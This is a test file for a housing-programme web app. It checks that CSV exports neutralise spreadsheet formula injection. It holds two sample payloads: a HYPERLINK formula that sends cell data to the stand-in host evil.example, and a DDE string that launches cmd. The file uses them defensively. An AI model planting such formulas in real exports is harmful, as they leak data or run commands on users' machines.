import { describe, expect, it } from "vitest";
import { neutraliseFormula, toCsv } from "~/lib/spreadsheet.server";
import { action as programmesAction } from "~/routes/api.v1.programmes";
import { loader as deliveriesCsv } from "~/routes/programmes.livraisons.export[.csv]";
import { apiCaller, callApi } from "../helpers/api";
import { browserOf } from "../helpers/cycle";
import { createUser } from "../helpers/fixtures";

/** What a spreadsheet would run as a formula when it opens the CSV: a cell starting with = + - @, a tab or a CR. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

const cells = (csv: string) =>
  csv
    .replace(/^\uFEFF/, "")
    .split(/\r?\n/)
    .flatMap((line) => line.split(";"))
    .map((cell) => cell.replace(/^"|"$/g, ""));

describe("CSV exports neutralise formulas", () => {
  it("prefixes with ' every text cell a spreadsheet would run, and leaves numbers and plain text alone", () => {
    for (const formula of [HYPERLINK, DDE, "+1+1", "-2+3", "\tcmd", "\r=1"])
      expect(neutraliseFormula(formula)).toBe(`'${formula}`);
    for (const plain of ["Résidence des Tisserands", "-3", "12,5", "+33", 42, -7, null])
      expect(neutraliseFormula(plain)).toBe(plain);
    const csv = toCsv({ header: ["=Nom", "Nombre"], body: [[HYPERLINK, -4]] });
    expect(cells(csv).some((cell) => /^[=+@\t\r]/.test(cell))).toBe(false);
    expect(csv).toContain("'=HYPERLINK");
  });

  it("the MEL's deliveries export carries a bailleur's programme named as a formula as text", async () => {
    const vilogia = await apiCaller("vilogia", ["gestionnaire"]);
    const declared = await callApi(vilogia, programmesAction, {
      path: "/programmes",
      body: {
        communeInsee: "59350",
        name: HYPERLINK,
        address: DDE,
        firstLettingDate: `${new Date().getUTCFullYear() + 1}-06-15`,
        flats: [{ typology: "T3", financing: "plus", pmr: false, count: 4 }],
      },
    });
    expect(declared.status).toBe(201);
    const mel = await browserOf(await createUser("mel", ["gestionnaire"]));
    const response = await mel.raw(
      deliveriesCsv,
      `/programmes/livraisons/export.csv?year=${new Date().getUTCFullYear() + 1}`,
    );
    const csv = await response.text();
    expect(csv).toContain("'=HYPERLINK");
    expect(csv).toContain("'@SUM(1+1)");
    expect(cells(csv).some((cell) => /^[=+@\t\r]/.test(cell))).toBe(false);
  });
});
